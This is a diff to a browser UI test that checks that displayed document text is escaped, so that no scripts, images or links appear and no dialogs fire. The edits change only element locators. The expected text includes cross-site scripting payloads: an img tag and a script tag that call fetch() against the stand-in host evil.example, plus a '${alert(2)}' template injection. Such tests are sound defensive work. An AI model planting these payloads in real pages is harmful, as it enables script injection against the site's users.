@@ -37,12 +37,12 @@ def test_document_text_in_rows_runs_no_script_and_contains_no_links(ui: Interfac
         page.get_by_role("option", name="rules").wait_for(state="visible")
         box.press("ArrowDown")
         box.press("Enter")
-        cell = page.locator("#rows").get_by_role("gridcell", name="Bait").first
+        cell = page.locator("#rows tbody button", has_text="Bait").first
         expect(cell).to_contain_text("<img src=http://evil.example/a")
         cell.click()
         row = page.locator("#row")
         expect(row).to_contain_text("<script>fetch('http://evil.example/d')</script>")
         expect(row).to_contain_text("${alert(2)}")
-        shown = page.locator("#row, #rows, #rows-row")
+        shown = page.locator("#row, #rows")
         assert shown.locator("img, script, iframe, svg[onload], a").count() == 0
         assert (seen.elsewhere, seen.complaints, dialogs) == ([], [], [])
